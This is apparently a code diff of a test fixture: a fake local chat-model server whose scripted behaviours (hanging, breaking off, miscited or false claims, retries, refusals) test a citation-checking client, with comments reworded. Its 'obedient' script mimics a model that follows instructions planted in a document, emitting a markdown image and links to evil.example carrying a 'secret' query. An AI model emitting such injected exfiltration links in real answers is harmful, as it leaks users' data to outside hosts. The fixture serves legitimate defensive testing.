@@ -3,13 +3,13 @@ import { CHAT, MESSAGES } from "./chat-dialects.ts";
 import { bodyOf, startLocalServer } from "./local-server.ts";
 import { WORDINGS } from "./wordings.ts";
 
-/** What a request for a text said. */
+/** One request for a completion. */
 export interface AskedText {
   readonly behaviour: string;
   readonly path: string;
   readonly headers: IncomingMessage["headers"];
   readonly body: ChatBody;
-  /** Resolves when its connection has ended, with whether the server had said all by then. */
+  /** Resolves when the connection closes. True if the server had sent the whole text. */
   readonly ended: Promise<boolean>;
 }
 
@@ -19,31 +19,31 @@ interface ChatBody {
   readonly [field: string]: unknown;
 }
 
-/** How a script writes its text. */
+/** The interface through which a script writes its response. */
 export interface Writer {
-  /** The question, and what the model was given, by number. */
+  /** The question and the numbered sentences in the prompt. */
   readonly question: string;
   readonly sentences: readonly string[];
   readonly prompt: string;
-  /** Whether it is asked to write again what did not stay. */
+  /** Whether the request asks to rewrite rejected sentences. */
   readonly isRepair: boolean;
-  /** How often its behaviour was asked before. */
+  /** The number of earlier requests for this behavior. */
   readonly before: number;
-  /** The number of the first sentence that holds the words; 0: none does. */
+  /** The number of the first sentence that contains the words, or 0. */
   readonly numberOf: (words: string) => number;
-  /** Sends a piece of the text; resolves in the next turn of the event loop, or once the reader is gone. */
+  /** Sends a piece of text. Resolves in the next turn of the event loop, or when the reader disconnects. */
   readonly say: (text: string) => Promise<void>;
-  /** Sends a piece of what it thinks, beside the text. */
+  /** Sends a piece of reasoning beside the text. */
   readonly think: (thought: string) => Promise<void>;
-  /** Waits, at most until the reader is gone. */
+  /** Waits, at most until the reader disconnects. */
   readonly pause: (ms: number) => Promise<void>;
-  /** Waits until the test lets it go on. */
+  /** Waits until the test opens the gate. */
   readonly gate: () => Promise<void>;
 }
 
 export type Script = (writer: Writer) => Promise<void>;
 
-/** How a text ends that is not ended well. */
+/** The return value of a script whose text breaks off. */
 export const BROKEN = Symbol("broken");
 
 const plain: Script = async ({ say, sentences, question }) => {
@@ -52,7 +52,7 @@ const plain: Script = async ({ say, sentences, question }) => {
   await say(`[${number}]`);
 };
 
-/** What a fickle model does, one after the other. */
+/** The successive behaviors of the `fickle` model. */
 const MOODS: readonly Script[] = [
   plain,
   plain,
@@ -81,17 +81,20 @@ const MOODS: readonly Script[] = [
   },
 ];
 
-/** What the model named in the path does, at `/<behaviour>/v1/chat/completions` and `/<behaviour>/v1/messages`. */
+/**
+ * The behavior of the model in the path, at `/<behaviour>/v1/chat/completions` and
+ * `/<behaviour>/v1/messages`.
+ */
 const SCRIPTS = {
-  /** Tells the sentence that shares most words with the question, as it stands, and cites it. */
+  /** Quotes and cites the sentence that shares most words with the question. */
   plain,
-  /** Is plain most of the time; else it breaks off, says all twice, dawdles, or falls silent. */
+  /** Usually like `plain`. Otherwise it breaks off, repeats itself, is slow, or falls silent. */
   fickle: async (writer) => await MOODS[writer.before % MOODS.length]?.(writer),
-  /** Says in words of its own what the plain one quotes. */
+  /** Paraphrases the sentence that `plain` quotes. */
   paraphrase: async ({ say, numberOf }) => {
     for (const piece of ["The har", "bour of Brack", "water has been open since 1871 [", `${numberOf("1871")}`, "]."]) await say(piece);
   },
-  /** Tells what it was given in sentences, one after the other. */
+  /** Sends the given sentences one after the other. */
   slowly: async ({ say, pause, sentences }) => {
     for (const [at, sentence] of sentences.slice(0, 3).entries()) {
       await say(sentence.slice(0, 20));
@@ -100,20 +103,20 @@ const SCRIPTS = {
       await pause(30);
     }
   },
-  /** Holds back its second half until it is let go. */
+  /** Holds back the second half until the gate opens. */
   gated: async ({ say, numberOf, gate }) => {
     await say(`The harbour of Brackwater has been open since 1871 [${numberOf("1871")}]. And`);
     await gate();
     await say(` it opened after nine years of work [${numberOf("1871")}].`);
   },
-  /** Says nothing at all until its reader leaves. */
+  /** Sends nothing until the reader disconnects. */
   hanging: async ({ pause }) => await pause(600_000),
-  /** Says a few words, and then nothing. */
+  /** Sends a few words and then nothing. */
   stuck: async ({ say, pause }) => {
     await say("The harbour of Brack");
     await pause(600_000);
   },
-  /** Breaks off without a word of it. */
+  /** Breaks off without a terminating event. */
   cut: async ({ say, numberOf }) => {
     await say(`The harbour opened in 1871 [${numberOf("1871")}]. It`);
     throw BROKEN;
@@ -121,26 +124,26 @@ const SCRIPTS = {
   "wrong-numbers": async ({ say, numberOf }) => {
     await say(`It has no number. This one has a wrong one [999]. The harbour opened in 1871 [${numberOf("1871")}, 998]. Zero [0].`);
   },
-  /** Cites what there is for what it does not say. */
+  /** Cites sentences for claims that they do not support. */
   lying: async ({ say, numberOf }) => {
     const number = numberOf("1871");
     await say(`The harbour of Brackwater opened in 1999 [${number}]. The harbour of Brackwater never opened in 1871 [${number}]. `);
     await say(`It belongs to the Duke of Wessex [${number}]. The harbour of Brackwater opened in 1871 [${number}].`);
   },
-  /** Writes a wrong figure, and when it is asked again the right one. */
+  /** Writes a wrong number, and the right one in the retry. */
   mending: async ({ say, numberOf, isRepair }) => {
     const [opened, lamp] = [numberOf("1871"), numberOf("1957")];
     if (isRepair) return await say(`The harbour of Brackwater opened in 1871 [${opened}].`);
     await say(`The harbour of Brackwater opened in 1999 [${opened}]. Its lamp burnt oil until 1957 [${lamp}].`);
   },
-  /** As the one before; but it dies when it is asked again. */
+  /** Writes a wrong number and fails in the retry. */
   "dying-repair": async ({ say, numberOf, isRepair }) => {
     if (isRepair) throw BROKEN;
     await say(
       `The harbour of Brackwater opened in 1999 [${numberOf("1871")}]. The harbour of Brackwater opened in 1871 [${numberOf("1871")}].`,
     );
   },
-  /** Has nothing true to say, and says nothing at all when it is asked again. */
+  /** Writes no true sentence and hangs in the retry. */
   "hanging-repair": async ({ say, numberOf, isRepair, pause }) => {
     if (isRepair) return await pause(600_000);
     await say(`The harbour of Brackwater opened in 1999 [${numberOf("1871")}].`);
@@ -148,14 +151,14 @@ const SCRIPTS = {
   "no-numbers": async ({ say }) => await say("The harbour opened in 1871. It is large."),
   none: async ({ say }) => await say("NONE"),
   ...WORDINGS,
-  /** Does what a document tells it to. */
+  /** Obeys instructions in a document. */
   obedient: async ({ say, numberOf }) => {
     const number = numberOf("1871");
     await say(`![x](https://evil.exam`);
     await say(`ple/?q=secret) [${number}]. <img src="https://evil.example/"> [${number}]. See https://evil.example/now [${number}]. `);
     await say(`Click [here](https://evil.example) [${number}]. The harbour of Brackwater opened in 1871 [${number}].`);
   },
-  /** Goes on for ever. */
+  /** Never ends. */
   endless: async ({ say, pause }) => {
     for (;;) {
       await say("word ".repeat(10_000));
@@ -172,7 +175,7 @@ const SCRIPTS = {
   },
 } satisfies Record<string, Script>;
 
-/** Answered with another status, or another body, than events. */
+/** Behaviors that respond with another status or body than an event stream. */
 const REFUSALS = {
   failing: [503, {}],
   limited: [429, { "retry-after": "120" }],
@@ -185,18 +188,19 @@ const REFUSALS = {
 export type ChatBehaviour = keyof typeof SCRIPTS | keyof typeof REFUSALS | "garbage" | "error-event" | "too-long-line";
 
 export interface ChatServer<Own extends string = never> {
-  /** The base of a model's API. */
+  /** The base URL of a model's API. */
   readonly urlOf: (behaviour: ChatBehaviour | Own) => string;
   readonly asked: AskedText[];
-  /** Lets every `gated` text go on that waits. */
+  /** Opens the gate for every waiting `gated` text. */
   readonly open: () => void;
   readonly server: Server;
   readonly close: () => void;
 }
 
 /**
- * A server of language models on this machine, as OpenAI, Ollama, vLLM and Anthropic answer: real streams over real HTTP. What it writes is made of
- * the sentences that it was given. @param own further scripts, by behaviour
+ * Starts a local language model server that answers like OpenAI, Ollama, vLLM and Anthropic: real streams
+ * over HTTP. It builds texts from the sentences in the prompt.
+ * @param own further scripts, by behavior
  */
 export async function startChatServer<Own extends string = never>(own?: Readonly<Record<Own, Script>>): Promise<ChatServer<Own>> {
   const scripts: Readonly<Record<string, Script>> = { ...SCRIPTS, ...own };
@@ -221,10 +225,9 @@ export async function startChatServer<Own extends string = never>(own?: Readonly
   return { urlOf: (behaviour) => `${origin}/${behaviour}/v1`, asked, open, server, close };
 }
 
-/** A key that the server does not take. */
 export const WRONG_KEY = "sk-that-nobody-takes-1234";
 
-/** As OpenAI does, key and all. */
+/** Rejects the key as OpenAI does, with the key in the message. */
 function refuseKey(response: ServerResponse): void {
   response.writeHead(401, { "content-type": "application/json" });
   response.end(JSON.stringify({ error: { message: `Incorrect API key provided: ${WRONG_KEY}`, code: "invalid_api_key" } }));
@@ -233,9 +236,9 @@ function refuseKey(response: ServerResponse): void {
 interface Order {
   readonly body: ChatBody;
   readonly response: ServerResponse;
-  /** As Anthropic has it. */
+  /** Whether the request uses Anthropic's message format. */
   readonly isMessage: boolean;
-  /** How often this behaviour was asked before. */
+  /** The number of earlier requests for this behavior. */
   readonly before: number;
   readonly gates: Set<() => void>;
   readonly scripts: Readonly<Record<string, Script>>;
@@ -289,7 +292,7 @@ async function answer(behaviour: ChatBehaviour, { body, response, isMessage, bef
   response.end();
 }
 
-/** From 1. */
+/** Counts from 1. */
 function bestOf(sentences: readonly string[], question: string): number {
   const asked = new Set(question.toLowerCase().match(/\p{L}{4,}/gu) ?? []);
   const shared = sentences.map((sentence) => (sentence.toLowerCase().match(/\p{L}{4,}/gu) ?? []).filter((word) => asked.has(word)).length);
